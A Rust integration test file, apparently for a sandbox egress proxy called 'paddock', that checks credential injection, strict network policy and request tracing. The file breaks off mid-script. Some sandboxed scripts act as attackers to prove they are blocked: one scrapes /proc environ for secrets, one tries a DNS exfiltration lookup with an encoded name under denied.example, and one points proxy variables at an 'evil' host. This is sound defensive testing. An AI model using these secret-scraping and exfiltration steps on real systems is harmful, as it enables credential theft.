//! Egress through the real binary: runs reach local HTTPS upstreams (a test CA, reached via
//! `upstream:` in the user config) through paddock's proxy, with credentials injected from
//! grants that never enter the sandbox, policy enforced, and every request in the trace.
//!
//! The upstream is a small Python HTTPS server on the host; the clients inside the
//! sandboxes are the real curl, git, python and node. It logs each request as JSON, with
//! the headers the tests look at.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use common::{Env, wait_until};

/// The credential the upstream expects. It must never appear inside a sandbox.
const REAL: &str = "ghp_Re4lT0kenRe4lT0kenRe4lT0kenRe4lT0k9";

const UPSTREAM_PY: &str = r#"
import base64, json, os, ssl, sys, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
cert, key, root, log_path, port_file, real = sys.argv[1:7]
lock = threading.Lock()
class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a):
        pass
    def record(self):
        n = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(n) if n else b""
        entry = {"method": self.command, "host": self.headers.get("host"), "path": self.path,
                 "authorization": self.headers.get("authorization"), "body": body.decode("latin-1"),
                 "x-team": self.headers.get_all("x-team"), "x-token": self.headers.get("x-token"),
                 "user-agent": self.headers.get("user-agent"), "version": self.request_version,
                 "headers": {k.lower(): v for k, v in self.headers.items()}}
        with lock, open(log_path, "a") as f:
            f.write(json.dumps(entry) + "\n")
        return entry
    def send(self, code, body, ctype="text/plain", extra=()):
        self.send_response(code)
        self.send_header("content-type", ctype)
        self.send_header("content-length", str(len(body)))
        for k, v in extra:
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(body)
    def do_POST(self):
        e = self.record()
        self.send(200, ("posted " + e["body"]).encode())
    def do_GET(self):
        e = self.record()
        host = (e["host"] or "").split(":")[0]
        if self.path.startswith("/echo"):
            return self.send(200, json.dumps({"auth": e["authorization"]}).encode(), "application/json")
        if host == "github.com":
            want = "Basic " + base64.b64encode(("x-access-token:" + real).encode()).decode()
            if e["authorization"] != want:
                return self.send(401, b"auth required\n", extra=[("www-authenticate", 'Basic realm="git"')])
            p = os.path.normpath(os.path.join(root, self.path.lstrip("/").split("?")[0]))
            if not p.startswith(root) or not os.path.isfile(p):
                return self.send(404, b"not found\n")
            with open(p, "rb") as f:
                return self.send(200, f.read(), "application/octet-stream")
        self.send(200, ("hello from " + host + self.path + "\n").encode())
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
ctx.set_alpn_protocols(["http/1.1"])
srv = ThreadingHTTPServer(("127.0.0.1", 0), H)
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
with open(port_file + ".tmp", "w") as f:
    f.write(str(srv.server_address[1]))
os.rename(port_file + ".tmp", port_file)
srv.serve_forever()
"#;

const NAMES: &[&str] = &[
    "github.com",
    "api.github.com",
    "api.anthropic.com",
    "denied.example",
    "hooks.example.com",
    "h2.example.com",
];

struct Upstream {
    child: Child,
    dir: PathBuf,
    port: u16,
}

impl Drop for Upstream {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Upstream {
    fn requests(&self) -> Vec<serde_json::Value> {
        std::fs::read_to_string(self.dir.join("requests.jsonl"))
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }
}

fn sh(cmd: &mut Command) {
    let out = cmd.output().expect("spawn");
    assert!(
        out.status.success(),
        "{cmd:?}: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A test CA, a certificate for [`NAMES`], a bare git repository served over dumb HTTP,
/// and the Python HTTPS server.
fn upstream(dir: &Path) -> Upstream {
    std::fs::create_dir_all(dir).unwrap();
    let ssl = |args: &[&str]| sh(Command::new("openssl").current_dir(dir).args(args));
    ssl(&[
        "req",
        "-x509",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:P-256",
        "-nodes",
        "-keyout",
        "ca.key",
        "-out",
        "ca.pem",
        "-days",
        "2",
        "-subj",
        "/CN=paddock test upstream CA",
    ]);
    let san: Vec<String> = NAMES.iter().map(|n| format!("DNS:{n}")).collect();
    std::fs::write(
        dir.join("ext.cnf"),
        format!("subjectAltName={}\n", san.join(",")),
    )
    .unwrap();
    ssl(&[
        "req",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:P-256",
        "-nodes",
        "-keyout",
        "leaf.key",
        "-out",
        "leaf.csr",
        "-subj",
        "/CN=upstream",
    ]);
    ssl(&[
        "x509",
        "-req",
        "-in",
        "leaf.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-out",
        "leaf.pem",
        "-days",
        "2",
        "-extfile",
        "ext.cnf",
    ]);
    // A repository at github.com/org/repo.git (dumb HTTP: static files).
    let root = dir.join("www");
    let bare = root.join("org/repo.git");
    std::fs::create_dir_all(&bare).unwrap();
    let git = |cwd: &Path, args: &[&str]| {
        sh(Command::new("git")
            .current_dir(cwd)
            .args(args)
            .env("GIT_AUTHOR_NAME", "t")
            .env("GIT_AUTHOR_EMAIL", "t@example.com")
            .env("GIT_COMMITTER_NAME", "t")
            .env("GIT_COMMITTER_EMAIL", "t@example.com"))
    };
    git(&bare, &["init", "-q", "--bare", "-b", "main"]);
    let work = dir.join("work");
    std::fs::create_dir_all(&work).unwrap();
    git(&work, &["init", "-q", "-b", "main"]);
    std::fs::write(work.join("README"), "cloned through paddock\n").unwrap();
    git(&work, &["add", "README"]);
    git(&work, &["commit", "-q", "-m", "first"]);
    git(&work, &["push", "-q", bare.to_str().unwrap(), "main"]);
    git(&bare, &["update-server-info"]);

    std::fs::write(dir.join("upstream.py"), UPSTREAM_PY).unwrap();
    let port_file = dir.join("port");
    let child = Command::new("/usr/bin/python3")
        .arg(dir.join("upstream.py"))
        .args([
            dir.join("leaf.pem"),
            dir.join("leaf.key"),
            root.clone(),
            dir.join("requests.jsonl"),
            port_file.clone(),
        ])
        .arg(REAL)
        .stdout(Stdio::null())
        .spawn()
        .expect("python3 upstream");
    let port = wait_until(Duration::from_secs(15), || {
        std::fs::read_to_string(&port_file)
            .ok()
            .and_then(|p| p.trim().parse::<u16>().ok())
    })
    .expect("the upstream did not start");
    Upstream {
        child,
        dir: dir.to_path_buf(),
        port,
    }
}

/// An Env whose daemon sends [`NAMES`] to the upstream and trusts its CA.
fn env_with_upstream() -> (Env, Upstream) {
    let env = Env::new();
    let up = upstream(&env.dir.path().join("upstream"));
    write_config(&env, &up, &[]);
    (env, up)
}

/// The user config: every name of [`NAMES`] to the upstream, except those in `other`
/// (name, port on 127.0.0.1).
fn write_config(env: &Env, up: &Upstream, other: &[(&str, u16)]) {
    let resolve: Vec<String> = NAMES
        .iter()
        .map(|n| {
            let port = other
                .iter()
                .find(|(o, _)| o == n)
                .map_or(up.port, |(_, p)| *p);
            format!("    {n}: \"127.0.0.1:{port}\"")
        })
        .collect();
    let cfg = format!(
        "upstream:\n  extra_ca: {}\n  resolve:\n{}\n",
        up.dir.join("ca.pem").display(),
        resolve.join("\n")
    );
    std::fs::create_dir_all(env.config.join("paddock")).unwrap();
    std::fs::write(env.config.join("paddock/config.yaml"), cfg).unwrap();
}

fn workspace(env: &Env) -> PathBuf {
    let ws = env.dir.path().join("project");
    std::fs::create_dir_all(&ws).unwrap();
    ws
}

fn run_in(env: &Env, ws: &Path, args: &[&str], script: &str) -> (bool, String, String) {
    let out = env
        .cmd()
        .current_dir(ws)
        .args(["run", "-q"])
        .args(args)
        .args(["--", "/bin/bash", "-c", script])
        .output()
        .unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Every file under `dir` whose bytes contain `needle`.
fn files_containing(dir: &Path, needle: &[u8]) -> Vec<PathBuf> {
    let mut hits = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            let Ok(ft) = e.file_type() else { continue };
            if ft.is_dir() {
                stack.push(p);
            } else if ft.is_file()
                && let Ok(b) = std::fs::read(&p)
                && b.windows(needle.len()).any(|w| w == needle)
            {
                hits.push(p);
            }
        }
    }
    hits
}

#[test]
fn grants_reach_upstreams_but_never_the_sandbox() {
    let (env, up) = env_with_upstream();
    let ws = workspace(&env);
    let out = env
        .cmd()
        .args(["grant", "github", "--from-env", "TEST_GH_TOKEN", "--json"])
        .env("TEST_GH_TOKEN", REAL)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let script = r#"
set -u
echo "GH_TOKEN=$GH_TOKEN"
echo "--- environment and /proc"
env
for p in /proc/[0-9]*; do tr '\0' ' ' < $p/cmdline 2>/dev/null; echo; tr '\0' '\n' < $p/environ 2>/dev/null; done
echo "--- curl, the client's placeholder replaced"
curl -sS https://api.github.com/echo -H "Authorization: Bearer $GH_TOKEN"; echo
echo "--- curl, no header at all"
curl -sS https://api.github.com/echo; echo
echo "--- git"
git clone -q https://github.com/org/repo.git /tmp/repo && cat /tmp/repo/README
echo "--- python"
/usr/bin/python3 -c "import urllib.request; print(urllib.request.urlopen('https://api.github.com/py').read().decode())"
echo "--- node (ignores the proxy variables: captured transparently)"
/usr/bin/node -e "fetch('https://api.github.com/node').then(r => r.text()).then(t => console.log('node: ' + t.trim()))"
"#;
    let (ok, stdout, stderr) = run_in(&env, &ws, &["--name", "gh", "-g", "github"], script);
    assert!(ok, "{stdout}\n{stderr}");
    assert!(
        !stdout.contains(REAL),
        "the real token reached the sandbox:\n{stdout}"
    );
    assert!(!stderr.contains(REAL), "{stderr}");
    let placeholder = stdout
        .lines()
        .find_map(|l| l.strip_prefix("GH_TOKEN="))
        .expect("GH_TOKEN is set")
        .to_string();
    assert!(
        placeholder.starts_with("ghp_") && placeholder != REAL,
        "{placeholder}"
    );
    // The echoed Authorization came back scrubbed to the placeholder.
    assert!(
        stdout.contains(&format!("Bearer {placeholder}")),
        "echo not scrubbed to the placeholder:\n{stdout}"
    );
    assert!(
        stdout.contains("cloned through paddock"),
        "git clone failed:\n{stdout}\n{stderr}"
    );
    assert!(
        stdout.contains("hello from api.github.com/py"),
        "{stdout}\n{stderr}"
    );
    assert!(
        stdout.contains("node: hello from api.github.com/node"),
        "{stdout}\n{stderr}"
    );

    // Upstream: every request carried the real credential.
    let reqs = up.requests();
    let bearer = format!("Bearer {REAL}");
    for path in ["/echo", "/py", "/node"] {
        let r = reqs
            .iter()
            .find(|r| r["path"] == path && r["host"] == "api.github.com")
            .unwrap_or_else(|| panic!("no request for {path}: {reqs:#?}"));
        assert_eq!(r["authorization"], bearer.as_str(), "{r}");
    }
    assert!(
        reqs.iter().any(|r| r["host"] == "github.com"
            && r["path"]
                .as_str()
                .is_some_and(|p| p.starts_with("/org/repo.git/info/refs"))),
        "{reqs:#?}"
    );
    assert!(
        reqs.iter()
            .filter(|r| r["host"] == "github.com")
            .all(|r| r["authorization"]
                .as_str()
                .is_some_and(|a| a.starts_with("Basic "))),
        "{reqs:#?}"
    );

    // The trace names the grant, never its value.
    let trace = env.ok(&["trace", "gh", "--json"]);
    assert!(!trace.contains(REAL));
    let records: Vec<serde_json::Value> = trace
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let echo = records
        .iter()
        .find(|r| r["path"] == "/echo")
        .expect("echo request traced");
    assert_eq!(echo["grants"], serde_json::json!(["github"]));
    assert_eq!(echo["status"], 200);
    assert_eq!(echo["type"], "net.request");
    assert!(
        records
            .iter()
            .any(|r| r["kind"] == "dns" && r["host"] == "api.github.com"),
        "node's DNS query is traced: {trace}"
    );
    let human = env.ok(&["trace", "gh"]);
    assert!(
        human.contains("GET https://api.github.com/echo  200"),
        "{human}"
    );
    assert!(human.contains("grants: github"), "{human}");

    // Nothing paddock wrote holds the value in clear (the secret store is encrypted).
    env.stop_daemon();
    let hits = files_containing(&env.home, REAL.as_bytes());
    assert!(
        hits.is_empty(),
        "the real token is stored in clear in {hits:?}"
    );
}

#[test]
fn strict_policy_denies_by_host_method_and_path_and_dns() {
    let (env, up) = env_with_upstream();
    let ws = workspace(&env);
    std::fs::write(
        ws.join("paddock.yaml"),
        "network:\n  policy: strict\n  rules:\n    - {host: api.github.com, allow_methods: [GET], deny_paths: [\"/admin/*\"]}\n",
    )
    .unwrap();
    let script = r#"
code() { curl -s -o /dev/null -w '%{http_code}' "$@"; }
echo "get=$(code https://api.github.com/ok)"
echo "post=$(code -X POST -d x https://api.github.com/ok)"
echo "admin=$(code https://api.github.com/admin/users)"
curl -s -D - -o /tmp/body -X DELETE https://api.github.com/ok | tr -d '\r' | grep -i '^x-paddock-blocked' | sed 's/^/header: /'
sed 's/^/body: /' /tmp/body
curl -s -m 10 -o /dev/null https://denied.example/; echo "denied_host_exit=$?"
curl -s -m 10 -o /dev/null --noproxy '*' https://denied.example/; echo "denied_direct_exit=$?"
/usr/bin/python3 - <<'PY'
import socket
for name in ["denied.example", "c2VjcmV0LWRhdGEtZXhmaWx0cmF0aW9uLWF0dGVtcHQ.denied.example"]:
    try:
        print("resolved", name, socket.gethostbyname(name))
    except socket.gaierror as e:
        print("nxdomain", name, e.errno)
print("allowed", socket.gethostbyname("api.github.com"))
PY
"#;
    let (ok, stdout, stderr) = run_in(&env, &ws, &["--name", "strict"], script);
    assert!(ok, "{stdout}\n{stderr}");
    assert!(stdout.contains("get=200"), "{stdout}");
    assert!(stdout.contains("post=403"), "{stdout}");
    assert!(stdout.contains("admin=403"), "{stdout}");
    assert!(stdout.contains("header: x-paddock-blocked"), "{stdout}");
    assert!(
        stdout.contains("body: ") && stdout.contains("network"),
        "{stdout}"
    );
    assert!(!stdout.contains("denied_host_exit=0"), "{stdout}");
    assert!(!stdout.contains("denied_direct_exit=0"), "{stdout}");
    assert!(
        !stdout.contains("resolved "),
        "a denied name resolved:\n{stdout}"
    );
    assert_eq!(stdout.matches("nxdomain ").count(), 2, "{stdout}");
    assert!(stdout.contains("allowed 198.1"), "{stdout}");

    // Only the allowed request reached the upstream.
    let reqs = up.requests();
    assert_eq!(reqs.len(), 1, "{reqs:#?}");
    assert_eq!(reqs[0]["method"], "GET");
    assert_eq!(reqs[0]["path"], "/ok");

    let trace = env.ok(&["trace", "strict", "--json"]);
    let denied: Vec<serde_json::Value> = trace
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .filter(|r| r["type"] == "net.denied")
        .collect();
    assert!(
        denied
            .iter()
            .any(|r| r["method"] == "POST" && r["status"] == 403),
        "{trace}"
    );
    assert!(
        denied
            .iter()
            .any(|r| r["kind"] == "dns" && r["host"] == "denied.example"),
        "{trace}"
    );
    assert!(
        denied
            .iter()
            .all(|r| r["rule"].as_str().is_some_and(|s| !s.is_empty())),
        "every decision names its rule: {trace}"
    );
}

/// A header value from `network.headers` that must reach the upstream but no log.
const HEADER_TOKEN: &str = "hdr-tok-7Qm2Xw9Lp4Rt8Vz1";

#[test]
fn network_headers_are_set_and_removed_per_host() {
    let (env, up) = env_with_upstream();
    let ws = workspace(&env);
    std::fs::write(
        ws.join("paddock.yaml"),
        format!(
            "network:\n  headers:\n    - {{host: api.github.com, set: {{X-Team: blue, X-Token: {HEADER_TOKEN}}}, remove: [User-Agent]}}\n"
        ),
    )
    .unwrap();
    // No grants: the edits apply all the same. The client's own X-Team is replaced.
    let script = r#"
curl -sS -H 'X-Team: red' https://api.github.com/h
curl -sS -H 'X-Team: red' https://api.anthropic.com/h
"#;
    let (ok, stdout, stderr) = run_in(&env, &ws, &["--name", "hdr"], script);
    assert!(ok, "{stdout}\n{stderr}");
    assert!(stdout.contains("hello from api.github.com/h"), "{stdout}");
    assert!(
        stdout.contains("hello from api.anthropic.com/h"),
        "{stdout}"
    );

    let reqs = up.requests();
    let of = |host: &str| {
        reqs.iter()
            .find(|r| r["host"] == host && r["path"] == "/h")
            .unwrap_or_else(|| panic!("no request to {host}: {reqs:#?}"))
    };
    let gh = of("api.github.com");
    assert_eq!(gh["x-team"], serde_json::json!(["blue"]), "{gh}");
    assert_eq!(gh["x-token"], HEADER_TOKEN, "{gh}");
    assert!(gh["user-agent"].is_null(), "User-Agent not removed: {gh}");
    let other = of("api.anthropic.com");
    assert_eq!(other["x-team"], serde_json::json!(["red"]), "{other}");
    assert!(other["x-token"].is_null(), "{other}");
    assert!(
        other["user-agent"]
            .as_str()
            .is_some_and(|ua| ua.starts_with("curl/")),
        "another host's User-Agent was touched: {other}"
    );

    // The value is in no trace and no audit log.
    let trace = env.ok(&["trace", "hdr", "--json"]);
    assert!(trace.contains("/h"), "{trace}");
    assert!(!trace.contains(HEADER_TOKEN), "{trace}");
    let audit = env.ok(&["audit", "hdr", "--json"]);
    assert!(!audit.contains(HEADER_TOKEN), "{audit}");
    env.stop_daemon();
    let hits = files_containing(&env.home.join("audit"), HEADER_TOKEN.as_bytes());
    assert!(hits.is_empty(), "a header value is logged in {hits:?}");
}

#[test]
fn network_headers_refuse_managed_headers_with_the_position() {
    let env = Env::new();
    let ws = workspace(&env);
    std::fs::write(
        ws.join("paddock.yaml"),
        "network:\n  headers:\n    - host: api.github.com\n      set: {Host: x}\n",
    )
    .unwrap();
    let out = env
        .cmd()
        .current_dir(&ws)
        .args(["run", "--", "true"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(2),
        "a config error is a usage error"
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("paddock.yaml:4:13"), "{err}");
    assert!(err.contains("Host"), "{err}");
    assert!(err.contains("hint"), "{err}");
    let runs = env.ok(&["ps", "-a", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&runs).unwrap();
    assert_eq!(v.as_array().map(|a| a.len()).unwrap_or(0), 0, "{runs}");
}

#[test]
fn a_project_file_cannot_redirect_upstreams() {
    let env = Env::new();
    let ws = workspace(&env);
    std::fs::write(
        ws.join("paddock.yaml"),
        "upstream:\n  resolve: {api.github.com: \"127.0.0.1:9\"}\n",
    )
    .unwrap();
    let out = env
        .cmd()
        .current_dir(&ws)
        .args(["run", "--", "true"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(2),
        "a config error is a usage error"
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("paddock.yaml:2:"), "{err}");
    assert!(err.contains("user config"), "{err}");
}

#[test]
fn an_unknown_grant_fails_before_anything_is_created() {
    let env = Env::new();
    let ws = workspace(&env);
    let out = env
        .cmd()
        .current_dir(&ws)
        .args(["run", "-g", "nosuch", "--", "true"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("nosuch"), "{err}");
    assert!(err.contains("paddock grant"), "{err}");
    let runs = env.ok(&["ps", "-a", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&runs).unwrap();
    assert_eq!(v.as_array().map(|a| a.len()).unwrap_or(0), 0, "{runs}");
}

/// A generic grant's value (substituted in URL and body); never inside a sandbox.
const REAL_HOOK: &str = "hook-Re4lH00kT0ken-9f8e7d6c5b4a3f2e";
/// An Anthropic key; never inside a sandbox.
const REAL_ANTHROPIC: &str =
    "sk-ant-api03-Re4lAnthr0picKeyRe4lAnthr0picKeyRe4lAnthr0picKey0123456789-xyzAA";

fn add_grant(env: &Env, args: &[&str], var: &str, value: &str) -> serde_json::Value {
    let out = env
        .cmd()
        .args(["grant"])
        .args(args)
        .args(["--from-env", var, "--json"])
        .env(var, value)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

fn placeholder_of(stdout: &str, var: &str) -> String {
    stdout
        .lines()
        .find_map(|l| l.strip_prefix(&format!("{var}=")))
        .unwrap_or_else(|| panic!("{var} is not set:\n{stdout}"))
        .to_string()
}

#[test]
fn substitution_in_url_and_body_reaches_the_upstream_and_every_use_is_audited() {
    let (env, up) = env_with_upstream();
    let ws = workspace(&env);
    let added = add_grant(
        &env,
        &[
            "http",
            "hooks",
            "--host",
            "hooks.example.com",
            "--header",
            "X-Hook-Key",
            "--env",
            "HOOK_TOKEN",
            "--substitute",
            "url,body",
        ],
        "TEST_HOOK",
        REAL_HOOK,
    );
    assert_eq!(
        added["grant"]["substitute"],
        serde_json::json!(["url", "body"])
    );
    let show = env.ok(&["grant", "show", "hooks"]);
    assert!(show.contains("also in: url, body"), "{show}");
    assert!(!show.contains(REAL_HOOK), "{show}");

    let script = r#"
echo "HOOK_TOKEN=$HOOK_TOKEN"
curl -sS "https://hooks.example.com/t/$HOOK_TOKEN?k=$HOOK_TOKEN"
curl -sS -H 'content-type: application/json' -d "{\"token\": \"$HOOK_TOKEN\"}" https://hooks.example.com/post; echo
/usr/bin/python3 -c "
import json, os, urllib.request as u
r = u.Request('https://hooks.example.com/py', data=json.dumps({'t': os.environ['HOOK_TOKEN']}).encode(), headers={'content-type': 'application/json'})
print(u.urlopen(r).read().decode())"
echo "--- elsewhere the placeholder stays one"
curl -sS "https://api.github.com/t/$HOOK_TOKEN"
"#;
    let (ok, stdout, stderr) = run_in(&env, &ws, &["--name", "hk", "-g", "hooks"], script);
    assert!(ok, "{stdout}\n{stderr}");
    assert!(
        !stdout.contains(REAL_HOOK),
        "the value reached the sandbox:\n{stdout}"
    );
    assert!(!stderr.contains(REAL_HOOK), "{stderr}");
    let ph = placeholder_of(&stdout, "HOOK_TOKEN");
    assert!(ph.starts_with("hook-") && ph != REAL_HOOK, "{ph}");
    // Echoed back by the upstream, and scrubbed on the way in.
    assert!(
        stdout.contains(&format!("hello from hooks.example.com/t/{ph}?k={ph}")),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!("posted {{\"token\": \"{ph}\"}}")),
        "{stdout}"
    );

    let reqs = up.requests();
    let find = |path: &str| {
        reqs.iter()
            .find(|r| {
                r["host"] == "hooks.example.com"
                    && r["path"].as_str().is_some_and(|p| p.starts_with(path))
            })
            .unwrap_or_else(|| panic!("no request for {path}: {reqs:#?}"))
    };
    let get = find("/t/");
    assert_eq!(
        get["path"],
        format!("/t/{REAL_HOOK}?k={REAL_HOOK}"),
        "{get}"
    );
    assert_eq!(get["headers"]["x-hook-key"], REAL_HOOK, "{get}");
    assert_eq!(
        find("/post")["body"],
        format!("{{\"token\": \"{REAL_HOOK}\"}}")
    );
    assert_eq!(find("/py")["body"], format!("{{\"t\": \"{REAL_HOOK}\"}}"));
    // Not the grant's host: nothing substituted, no header.
    let other = reqs
        .iter()
        .find(|r| r["host"] == "api.github.com")
        .expect("the other host was reached");
    assert_eq!(other["path"], format!("/t/{ph}"), "{other}");
    assert!(other["headers"]["x-hook-key"].is_null(), "{other}");

    // Every use is on the record (name and host, never the value).
    let used = env.ok(&["audit", "hk", "--type", "grant.used", "--json"]);
    assert!(!used.contains(REAL_HOOK), "{used}");
    let v: serde_json::Value = serde_json::from_str(&used).unwrap();
    let entries: Vec<&serde_json::Value> = match &v {
        serde_json::Value::Array(a) => a.iter().collect(),
        other => other["entries"].as_array().unwrap().iter().collect(),
    };
    let hooks: Vec<_> = entries
        .iter()
        .filter(|e| e.to_string().contains("\"grant\":\"hooks\""))
        .collect();
    assert_eq!(
        hooks.len(),
        3,
        "one per request to the grant's host: {used}"
    );
    assert!(
        hooks
            .iter()
            .all(|e| e.to_string().contains("\"host\":\"hooks.example.com\"")),
        "{used}"
    );
    let export = env.ok(&["audit", "export", "hk"]);
    assert!(export.contains("grant.used"), "{export}");
    assert!(!export.contains(REAL_HOOK), "the value is in the audit log");
    let trace = env.ok(&["trace", "hk", "--json"]);
    assert!(!trace.contains(REAL_HOOK), "{trace}");
}

#[test]
fn proxy_variables_the_user_passes_are_replaced() {
    let env = Env::new();
    let ws = workspace(&env);
    let out = env
        .cmd()
        .current_dir(&ws)
        .args([
            "run",
            "-q",
            "-e",
            "HTTP_PROXY=http://evil:1",
            "-e",
            "https_proxy=http://evil:2",
            "-e",
            "ALL_PROXY=socks5://evil:3",
            "-e",
            "NO_PROXY=*",
            "--",
            "env",
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!stdout.contains("evil"), "{stdout}");
    for k in [
        "HTTP_PROXY",
        "http_proxy",
        "HTTPS_PROXY",
        "https_proxy",
        "ALL_PROXY",
        "all_proxy",
    ] {
        assert!(
            stdout
                .lines()
                .any(|l| l == format!("{k}=http://127.0.0.80:3128")),
            "{k}:\n{stdout}"
        );
    }
    for k in ["NO_PROXY", "no_proxy"] {
        assert!(
            stdout
                .lines()
                .any(|l| l == format!("{k}=localhost,127.0.0.1,::1")),
            "{k}:\n{stdout}"
        );
    }
}

#[test]
fn a_rule_port_gets_a_transparent_listener_and_is_governed() {
    let (env, up) = env_with_upstream();
    let ws = workspace(&env);
    std::fs::write(
        ws.join("paddock.yaml"),
        "network:\n  policy: strict\n  rules:\n    - {host: api.github.com, port: 8443}\n",
    )
    .unwrap();
    // Clients that ignore the proxy variables: the name from the DNS stub, or a literal
    // address for a name the stub would not answer.
    let script = r#"
curl -sS --noproxy '*' -m 10 https://api.github.com:8443/p8443; echo "allowed=$?"
curl -s --noproxy '*' -m 10 -o /dev/null -w 'code=%{http_code}' --resolve api.anthropic.com:8443:203.0.113.9 https://api.anthropic.com:8443/other; echo " other=$?"
curl -s --noproxy '*' -m 10 -o /dev/null -w 'code=%{http_code}' --resolve api.github.com:443:203.0.113.9 https://api.github.com/p443; echo " port443=$?"
curl -s --noproxy '*' -m 10 http://203.0.113.9:8444/; echo "unlistened=$?"
"#;
    let (ok, stdout, stderr) = run_in(&env, &ws, &["--name", "p8443"], script);
    assert!(ok, "{stdout}\n{stderr}");
    assert!(
        stdout.contains("hello from api.github.com/p8443"),
        "{stdout}\n{stderr}"
    );
    assert!(stdout.contains("allowed=0"), "{stdout}");
    assert!(
        stdout.contains("code=403 other=0"),
        "another host on 8443: {stdout}"
    );
    assert!(
        stdout.contains("code=403 port443=0"),
        "the rule names 8443 only: {stdout}"
    );
    assert!(stdout.contains("unlistened=7"), "{stdout}");
    let reqs = up.requests();
    assert_eq!(reqs.len(), 1, "{reqs:#?}");
    assert_eq!(reqs[0]["path"], "/p8443");
    let trace = env.ok(&["trace", "p8443", "--json"]);
    let records: Vec<serde_json::Value> = trace
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let allowed = records
        .iter()
        .find(|r| r["path"] == "/p8443")
        .expect("traced");
    assert_eq!(allowed["port"], 8443);
    assert!(
        allowed["rule"]
            .as_str()
            .unwrap()
            .starts_with("network.rules[0]"),
        "{allowed}"
    );
    assert!(
        records
            .iter()
            .any(|r| r["path"] == "/other" && r["type"] == "net.denied" && r["port"] == 8443),
        "{trace}"
    );
}

#[test]
fn grants_imply_their_hosts_in_strict_mode_from_flags_and_config() {
    let (env, up) = env_with_upstream();
    add_grant(&env, &["github"], "TEST_GH_TOKEN", REAL);
    let script = r#"
echo "GH_TOKEN=$GH_TOKEN"
curl -sS -m 10 https://api.github.com/implied; echo
curl -s -m 10 -o /dev/null -w 'denied=%{http_connect}\n' https://denied.example/
true
"#;
    // `-g` on the command line, no rules at all.
    let flags = env.dir.path().join("flags");
    std::fs::create_dir_all(&flags).unwrap();
    std::fs::write(flags.join("paddock.yaml"), "network:\n  policy: strict\n").unwrap();
    // `grants:` in paddock.yaml, no `-g`.
    let config = env.dir.path().join("config");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(
        config.join("paddock.yaml"),
        "grants: [github]\nnetwork:\n  policy: strict\n",
    )
    .unwrap();
    for (ws, args) in [
        (&flags, &["--name", "flags", "-g", "github"][..]),
        (&config, &["--name", "config"][..]),
    ] {
        let (ok, stdout, stderr) = run_in(&env, ws, args, script);
        assert!(ok, "{args:?}: {stdout}\n{stderr}");
        assert!(!stdout.contains(REAL), "{stdout}");
        let ph = placeholder_of(&stdout, "GH_TOKEN");
        assert!(ph.starts_with("ghp_"), "{args:?}: {ph}");
        assert!(
            stdout.contains("hello from api.github.com/implied"),
            "{args:?}: {stdout}\n{stderr}"
        );
        assert!(stdout.contains("denied=403"), "{args:?}: {stdout}");
    }
    let reqs = up.requests();
    let implied: Vec<_> = reqs.iter().filter(|r| r["path"] == "/implied").collect();
    assert_eq!(implied.len(), 2, "{reqs:#?}");
    for r in implied {
        assert_eq!(r["authorization"], format!("Bearer {REAL}"), "{r}");
    }
    assert!(
        !reqs.iter().any(|r| r["host"] == "denied.example"),
        "{reqs:#?}"
    );
    for run in ["flags", "config"] {
        let trace = env.ok(&["trace", run, "--json"]);
        let r: serde_json::Value = trace
            .lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
            .find(|r| r["path"] == "/implied")
            .unwrap_or_else(|| panic!("{run}: {trace}"));
        assert!(
            r["rule"].as_str().unwrap().starts_with("grant github"),
            "{run}: {r}"
        );
    }
}

#[test]
fn python_requests_and_an_anthropic_key_through_the_proxy() {
    let (env, up) = env_with_upstream();
    let ws = workspace(&env);
    add_grant(&env, &["anthropic"], "TEST_ANTHROPIC", REAL_ANTHROPIC);
    let script = r#"
echo "ANTHROPIC_API_KEY=$ANTHROPIC_API_KEY"
curl -sS -m 10 https://api.anthropic.com/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" -H 'content-type: application/json' -d '{"model":"m"}'; echo
/usr/bin/python3 - <<'PY'
import os, requests
